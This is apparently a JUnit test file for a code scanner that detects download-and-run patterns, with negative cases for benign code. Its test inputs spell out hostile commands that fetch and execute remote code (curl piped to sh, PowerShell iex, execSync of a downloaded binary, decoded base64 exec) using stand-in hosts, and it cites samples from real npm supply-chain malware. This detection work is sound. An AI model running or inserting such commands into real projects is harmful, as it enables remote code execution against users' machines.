package dev.lazaret.policy.content;

import static dev.lazaret.policy.content.CodeFinding.Kind.DOWNLOAD_AND_RUN;
import static dev.lazaret.policy.content.Samples.scan;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class DownloadAndRunTest {

  @Test
  void aDownloadPipedIntoAShellRunsIt() {
    assertThat(scan("i.sh", "curl -fsSL https://example.invalid/x.sh | sh", DOWNLOAD_AND_RUN))
        .hasSize(1);
    assertThat(scan("i.sh", "bash -c \"$(wget -qO- https://example.invalid/x)\"",
        DOWNLOAD_AND_RUN)).hasSize(1);
    assertThat(scan("i.ps1", "iex (iwr https://example.invalid/x.ps1)", DOWNLOAD_AND_RUN))
        .hasSize(1);
  }

  @Test
  void anInstallCommandIsReadAsShell() {
    assertThat(new CodeScanner().scanCommand("curl -s http://198.51.100.9/x | bash"))
        .extracting(CodeFinding::kind, CodeFinding::path)
        .contains(org.assertj.core.groups.Tuple.tuple(DOWNLOAD_AND_RUN, "package.json"));
  }

  @Test
  void aChildProcessGivenADownloadOrDecodedTextRunsIt() {
    assertThat(scan("a.js", "execSync('wget http://198.51.100.9/m -O /tmp/m && /tmp/m')",
        DOWNLOAD_AND_RUN)).hasSize(1);
    assertThat(scan("a.js", "exec(Buffer.from(cmd, 'base64').toString())", DOWNLOAD_AND_RUN))
        .hasSize(1);
  }

  @Test
  void downloadingThenMakingExecutableRunsIt() {
    // ua-parser-js 0.7.29: curl or wget, then chmod +x and run; on Windows, regsvr32.
    assertThat(scan("preinstall.sh", Samples.text("ua-parser-preinstall.sh"), DOWNLOAD_AND_RUN))
        .extracting(CodeFinding::line).containsExactly(12);
    assertThat(scan("preinstall.bat", Samples.text("ua-parser-preinstall.bat"),
        DOWNLOAD_AND_RUN)).extracting(CodeFinding::excerpt)
        .containsExactly("regsvr32.exe -s create.dll");
    assertThat(scan("bundle.js", Samples.text("shai-hulud-bundle.js"), DOWNLOAD_AND_RUN))
        .hasSize(1);
  }

  @Test
  void runningLocalCommandsOrChmodWithoutADownloadIsNot() {
    assertThat(scan("a.js", "exec('git rev-parse HEAD'); fs.chmodSync(bin, 0o755);"
        + " const m = /x/.exec(s);", DOWNLOAD_AND_RUN)).isEmpty();
    assertThat(scan("preinstall.js", Samples.text("ua-parser-preinstall.js"), DOWNLOAD_AND_RUN))
        .isEmpty();
    // A library that downloads a browser and makes it executable but runs nothing itself.
    assertThat(scan("fetcher.js", "const https = require('https');\n"
        + "function install(p) { https.get(u, r => r.pipe(fs.createWriteStream(p)));"
        + " fs.chmodSync(p, 0o755); }", DOWNLOAD_AND_RUN)).isEmpty();
  }

  @Test
  void aReadmeShowingCurlPipedToShIsNotCode() {
    assertThat(scan("README.md", Samples.text("benign-readme.md"))).isEmpty();
  }
}
